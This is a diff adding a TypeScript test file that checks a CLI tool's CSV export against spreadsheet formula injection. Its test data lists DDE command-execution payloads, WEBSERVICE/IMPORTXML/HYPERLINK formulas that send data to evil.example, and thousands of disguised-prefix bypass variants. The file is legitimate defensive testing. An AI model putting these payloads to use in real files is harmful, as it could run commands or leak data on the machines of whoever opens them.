@@ -1,0 +1,205 @@
+import { execFileSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { csvRecord, noChanges, plainCsv } from '../../src/exports/writing/csv.js';
+import { guarded, unguardedCell } from '../../src/inert/formula.js';
+import { emulator, heldContacts } from '../support/emulator.js';
+import { run } from '../support/io.js';
+import { isInstalled } from '../support/programs.js';
+import { file, workdir } from '../support/workdir.js';
+
+const hasOffice = isInstalled('soffice', 'no spreadsheet judges the formula guard');
+
+const formulas = [
+  ...[
+    '1+1',
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://evil.example/?x="&A1,"click")',
+    'WEBSERVICE("http://evil.example")',
+  ],
+  ...[
+    'IMPORTXML("http://evil.example","//a")',
+    'SUM(1,2)',
+    'DDE("cmd";"/C calc";"x")',
+    '2+5+cmd|x',
+    'A1',
+    '"a"&"b"',
+  ],
+];
+const operators = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '==', '=+', '+=', '-@'];
+/** What is put before an operator to get past a guard that looks at the first character only. */
+const disguises = [
+  ...[
+    '',
+    ' ',
+    '  ',
+    '\t',
+    '\n',
+    '\r',
+    '\r\n',
+    '\u0000',
+    '\u0001',
+    '\u001f',
+    '\u00a0',
+    '\u200b',
+    '\ufeff',
+    '\u2060',
+    "'",
+    '"',
+  ],
+  ...[
+    'a;',
+    'a,',
+    'a\t',
+    'a|',
+    'a"',
+    'a;"',
+    'a;\u0000',
+    'a; ',
+    'a\n',
+    'a\r',
+    'x;y;',
+    '";"',
+    "';",
+    'a;\u200b',
+    '\u0000\t',
+  ],
+];
+const payloads = [
+  ...formulas.flatMap((formula) =>
+    operators.flatMap((operator) => disguises.map((disguise) => `${disguise}${operator}${formula}`)),
+  ),
+  ...operators.flatMap((operator) =>
+    disguises.map((disguise) => `${disguise}${operator}1;${operator}2,${operator}3`),
+  ),
+];
+
+/** How many cells of a file LibreOffice makes formulas of, when it splits at this character. */
+function formulaCells(csv: string, separator: string, name: string): number {
+  const directory = workdir();
+  const path = file(csv, `${name}.csv`, directory);
+  const options = `${separator.charCodeAt(0)},34,76,1`;
+  execFileSync(
+    'soffice',
+    [
+      `-env:UserInstallation=${pathToFileURL(join(directory, 'profile')).href}`,
+      ...['--headless', '--norestore', `--infilter=Text - txt - csv (StarCalc):${options},,0,false,true`],
+      ...['--convert-to', 'fods', '--outdir', directory, path],
+    ],
+    { stdio: 'ignore', timeout: 120_000 },
+  );
+  return readFileSync(join(directory, `${name}.fods`), 'utf8').match(/table:formula=/g)?.length ?? 0;
+}
+
+function csvOf(cells: readonly string[], isGuarded: boolean, delimiter: ',' | '\t'): string {
+  const dialect = { ...plainCsv, delimiter, isGuarded };
+  return cells.map((cell, i) => csvRecord([i, cell, 'end'], dialect, noChanges())).join('');
+}
+
+test('S-15 S-16 I-26 there are thousands of payloads', () => {
+  expect(payloads.length).toBeGreaterThanOrEqual(4000);
+});
+
+test.skipIf(!hasOffice)(
+  'S-15 S-16 I-26 LibreOffice finds no formula in them behind a comma, a semicolon or a tab; without the guard it does',
+  { timeout: 300_000 },
+  () => {
+    for (const separator of [',', ';', '\t'])
+      expect([separator, formulaCells(csvOf(payloads, true, ','), separator, 'safe')]).toEqual([
+        separator,
+        0,
+      ]);
+    expect(formulaCells(csvOf(payloads, true, '\t'), '\t', 'tabs')).toBe(0);
+    expect(formulaCells(csvOf(payloads, false, ','), ',', 'raw')).toBeGreaterThan(50);
+  },
+);
+
+test.skipIf(!hasOffice)(
+  'I-26 the file of a real export of leads that strangers filled in has no formula either',
+  { timeout: 120_000 },
+  async () => {
+    const leads = payloads.slice(0, 1500).map((name, i) => ({ name, email: `=${i}`, phone: '+49 30 1' }));
+    const api = await emulator({
+      seed: file(JSON.stringify({ bots: [{ id: 'b1', name: 'B', source: 'x', leads }] }), 's.json'),
+    });
+    const out = join(workdir(), 'leads.csv');
+    const ran = await run(['leads', 'export', '--out', out, '--excel'], { env: api.env });
+    expect([ran.code, ran.err]).toEqual([
+      0,
+      expect.stringMatching(
+        /control characters taken out of cells; JSON keeps them\n4,500 cells got an apostrophe/,
+      ),
+    ]);
+    const csv = readFileSync(out, 'utf8');
+    expect([csv.startsWith('\ufeff'), csv.includes('\r\n')]).toEqual([true, true]);
+    for (const separator of [',', ';']) expect(formulaCells(csv, separator, 'leads')).toBe(0);
+  },
+);
+
+test('S-15 the guard is taken off exactly: whatever held no control characters is as it was', () => {
+  const clean = payloads.filter((text) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(text));
+  expect(clean.filter((text) => unguardedCell(guarded(text).text) !== text)).toEqual([]);
+  const tricky = fc.string({
+    unit: fc.constantFrom("'", '=', '+', '-', '@', ';', ',', '"', '|', '\t', '\n', ' ', 'a', '＝'),
+  });
+  fc.assert(
+    fc.property(tricky, (text) => {
+      expect(unguardedCell(guarded(text).text)).toBe(text);
+    }),
+    { numRuns: 2000 },
+  );
+});
+
+test('S-15 contacts go out as CSV and come back in, every value as it was', async () => {
+  const values = [
+    '=1+1',
+    "'=1+1",
+    '+49 30 1',
+    '-',
+    '@x',
+    'a;=b',
+    'line\nbreak, "quoted"',
+    'Ünïcödé 😀',
+    '  kept  ',
+  ];
+  const users = values.map((name, i) => ({ external_id: `x${i}`, name, custom_attributes: { plan: name } }));
+  const [from, to] = [await emulator(), await emulator()];
+  await from.ask('POST', '/chatbots/b1/contacts', { users });
+  const csv = join(workdir(), 'contacts.csv');
+  expect((await run(['contacts', 'export', '--out', csv], { env: from.env })).code).toBe(0);
+  const { code, err } = await run(['contacts', 'import', csv, '--no-trim'], { env: to.env });
+  expect(code, err).toBe(0);
+  const names = async (api: typeof from) =>
+    (await heldContacts(api)).map(({ external_id, name, custom_attributes }) => ({
+      external_id,
+      name,
+      custom_attributes,
+    }));
+  const byId = (rows: Awaited<ReturnType<typeof names>>) =>
+    [...rows].sort((one, other) => (String(one.external_id) < String(other.external_id) ? -1 : 1));
+  expect(byId(await names(to))).toEqual(byId(await names(from)));
+});
+
+test('--raw-csv leaves cells as they came, and says what that means', async () => {
+  const api = await emulator();
+  await api.visited('leads', [{ name: '=1+1' }]);
+  const raw = await run(['leads', 'export', '--fields', 'name', '--raw-csv'], { env: api.env });
+  expect([raw.out, raw.err]).toEqual([
+    'name\n=1+1\n',
+    '1 lead\nCells are as they came (--raw-csv): a spreadsheet may run what strangers typed\n',
+  ]);
+});
+
+test('our records are those of the library, but for a quote more around semicolons and tabs', async () => {
+  const { stringify } = await import('csv-stringify/sync');
+  fc.assert(
+    fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2 }), (cells) => {
+      fc.pre(cells.every((cell) => !/[;\t]|^ | $/.test(cell)));
+      const raw = { ...plainCsv, isGuarded: false };
+      expect(csvRecord(cells, raw, noChanges())).toBe(stringify([cells]));
+    }),
+  );
+});
